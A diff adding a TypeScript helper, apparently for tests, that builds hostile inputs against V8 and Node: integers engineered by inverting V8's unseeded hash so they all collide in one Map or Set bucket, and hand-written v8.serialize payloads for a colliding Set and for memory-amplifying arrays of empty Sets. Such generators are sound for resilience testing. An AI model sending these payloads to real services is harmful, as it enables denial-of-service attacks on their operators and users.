@@ -1,0 +1,83 @@
+// Values a hostile peer sends: small integers (V8 Smis) whose unseeded V8 hash
+// (ComputeUnseededHash) ends in the same `bits` bits, so that in a Map or Set they all land in
+// one bucket (the hash is a bijection on uint32, so each key is the inverse of a chosen hash);
+// and v8 serializer payloads written by hand (building the colliding Set to serialize it would
+// cost the same n^2 as reading it).
+
+const M = 2n ** 32n
+
+function inverse(a: bigint): bigint {
+  let [t, nt, r, nr] = [0n, 1n, M, a]
+  while (nr !== 0n) {
+    const q = r / nr
+    ;[t, nt] = [nt, t - q * nt]
+    ;[r, nr] = [nr, r - q * nr]
+  }
+  return ((t % M) + M) % M
+}
+
+const I32767 = inverse(32767n)
+const I5 = inverse(5n)
+const I2057 = inverse(2057n)
+
+function times(x: number, k: bigint): number {
+  return Number((BigInt(x >>> 0) * k) % M) >>> 0
+}
+
+function unXorShiftRight(y: number, s: number): number {
+  let x = y >>> 0
+  for (let k = s; k < 32; k += s) x = (x ^ (y >>> k)) >>> 0
+  return x
+}
+
+/** The uint32 whose V8 unseeded hash is `h`. */
+function unhash(h: number): number {
+  let x = unXorShiftRight(h >>> 0, 16)
+  x = times(x, I2057)
+  x = unXorShiftRight(x, 4)
+  x = times(x, I5)
+  x = unXorShiftRight(x, 12)
+  return times((x + 1) >>> 0, I32767)
+}
+
+/** `n` non-negative int32 keys whose hashes share their low `bits` bits. */
+export function collidingIntegers(n: number, bits = 16): number[] {
+  const out: number[] = []
+  for (let i = 0; out.length < n; i++) {
+    const k = unhash(((i << bits) | (0x1234 & ((1 << bits) - 1))) >>> 0) | 0
+    if (k >= 0) out.push(k)
+  }
+  return out
+}
+
+/** Appends `value` (a uint32) as a varint. */
+function varint(value: number, out: number[]): void {
+  let v = value
+  do {
+    let byte = v & 0x7f
+    v = Math.floor(v / 128)
+    if (v !== 0) byte |= 0x80
+    out.push(byte)
+  } while (v !== 0)
+}
+
+/** `v8.serialize(new Set(keys))` for int32 `keys` (version 15: 0xff 0x0f, `'`, `I` zigzag varints, `,` count). */
+export function v8SetOf(keys: number[]): Buffer {
+  const out = [0xff, 0x0f, 0x27]
+  for (const k of keys) {
+    out.push(0x49)
+    varint(k >= 0 ? 2 * k : -2 * k - 1, out)
+  }
+  out.push(0x2c)
+  varint(keys.length, out)
+  return Buffer.from(out)
+}
+
+/** `v8.serialize(Array.from({ length: n }, () => new Set()))`: 3 bytes on the wire, ~170 on the heap each. */
+export function v8EmptySets(n: number): Buffer {
+  const length: number[] = []
+  varint(n, length)
+  const items = Buffer.alloc(3 * n)
+  for (let i = 0; i < n; i++) items.set([0x27, 0x2c, 0], 3 * i) // ' , 0: an empty Set
+  return Buffer.concat([Buffer.from([0xff, 0x0f, 0x41, ...length]), items, Buffer.from([0x24, 0, ...length])])
+}
